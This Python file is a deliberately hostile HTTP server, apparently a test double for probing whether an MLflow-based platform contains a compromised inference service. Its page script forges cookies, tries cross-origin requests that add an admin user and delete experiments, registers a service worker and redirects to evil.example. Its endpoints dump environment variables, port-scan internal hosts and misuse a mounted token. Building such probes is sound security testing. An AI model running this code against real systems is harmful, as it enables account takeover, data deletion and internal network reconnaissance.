"""An inference API that has turned hostile: tries what it can on whoever asks it, and on what it can reach."""

import json
import os
import socket
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html><title>working</title>
<form id="form" method="post" action="/admin/users/add"><input name="name" value="mallory"><input name="role" value="admin"></form>
<iframe src="/admin"></iframe><iframe id="own"></iframe>
<script>
const tried = {};
const attempt = async (name, work) => {
  try { tried[name] = String(await work()); } catch (error) { tried[name] = "failed: " + error.name; }
};
const post = (path, more) => fetch(path, { method: "POST", credentials: "include",
  headers: { "content-type": "application/x-www-form-urlencoded" }, body: "name=mallory&role=admin", ...more });
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("plant", () => { document.cookie = "mlflow-request-header-Authorization=x; Path=/"; return "planted"; });
  await attempt("storage", () => localStorage.setItem("x", "y") ?? "stored");
  await attempt("admin", async () => (await post("/admin/users/add")).status);
  await attempt("admin without cors", async () => (await post("/admin/users/add", { mode: "no-cors" })).type);
  await attempt("delete", async () => (await fetch("/api/2.0/mlflow/experiments/delete", { method: "POST",
    credentials: "include", body: '{"experiment_id": "0"}' })).status);
  await attempt("read", async () => (await (await fetch("/door/whoami", { credentials: "include" })).json()).user);
  await attempt("worker", async () => (await navigator.serviceWorker.register("/inference/sw.js", { scope: "/" })).scope);
  await attempt("opener", () => window.open("/admin") === null ? "no window" : "a window");
  await attempt("form", () => document.getElementById("form").submit());
  await attempt("top", () => { top.location.href = "/inference/redirect"; });
  document.title = JSON.stringify(tried);
})();
</script>"""

PLACES = [("mlflow", 5000), ("tracking", 5000), ("minio", 9000), ("postgres", 5432), ("door-data", 5000),
          ("door-data", 9464), ("door-ident", 5000), ("1.1.1.1", 443), ("8.8.8.8", 53)]


def reach(host: str, port: int) -> str:
    try:
        socket.create_connection((host, port), 2).close()
        return "open"
    except OSError:
        return "closed"


def gateway() -> list[str]:
    """What the routing table names, and the first address of each network: the host's, if it has one there."""
    with open("/proc/net/route", encoding="ascii") as table:
        rows = [line.split() for line in table.readlines()[1:]]
    found = []
    for row in rows:
        number = int.from_bytes(bytes.fromhex(row[1]), "little")
        via = int.from_bytes(bytes.fromhex(row[2]), "little")
        found.append(socket.inet_ntoa((via or number + 1).to_bytes(4, "big")))
    return found


def ask(method: str, path: str, body: dict | None = None) -> int:
    with open(os.environ["MLFLOW_TRACKING_TOKEN_FILE"], encoding="ascii") as file:
        token = file.read().strip()
    request = urllib.request.Request(
        os.environ["MLFLOW_TRACKING_URI"] + path,
        method=method,
        data=None if body is None else json.dumps(body).encode(),
        headers={"authorization": f"Bearer {token}", "content-type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        path = self.path.split("?")[0]
        if path == "/redirect":
            return self.answer(302, b"", Location="https://evil.example/")
        if path == "/sw.js":
            return self.answer(200, b"self.addEventListener('fetch', () => {})", "text/javascript")
        if path == "/seen":
            return self.json({"headers": dict(self.headers.items()), "environment": dict(os.environ)})
        if path == "/reach":
            hosts = {f"{host}:{port}": reach(host, port) for host, port in PLACES}
            return self.json({**hosts, **{f"gateway {host}:{port}": reach(host, port) for host in gateway()
                                          for port in (22, int(os.environ["DOOR_PORT"]), 2375)}})
        if path == "/token":
            asked = [line.split(" ", 1) for line in os.environ["ASKED"].split(";")]
            return self.json({f"{method} {where}": ask(method, where, {} if method != "GET" else None)
                              for method, where in asked})
        self.answer(200, PAGE.encode(), "text/html")

    do_POST = do_GET

    def json(self, document: dict) -> None:
        self.answer(200, json.dumps(document).encode(), "application/json")

    def answer(self, status: int, body: bytes, kind: str = "text/plain", **more: str) -> None:
        self.send_response(status)
        headers = {"Content-Type": kind, "Content-Length": str(len(body)), "Clear-Site-Data": '"*"',
                   "Service-Worker-Allowed": "/", "Content-Security-Policy": "default-src *", "Refresh": "0; url=/admin",
                   "Link": "</inference/sw.js>; rel=serviceworker", "Access-Control-Allow-Origin": "*", **more}
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Set-Cookie", "evil=1; Path=/")
        self.send_header("Set-Cookie", "mlflow-request-header-X-CSRF-Token=planted; Path=/")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


ThreadingHTTPServer(("0.0.0.0", int(os.environ["PORT"])), Handler).serve_forever()
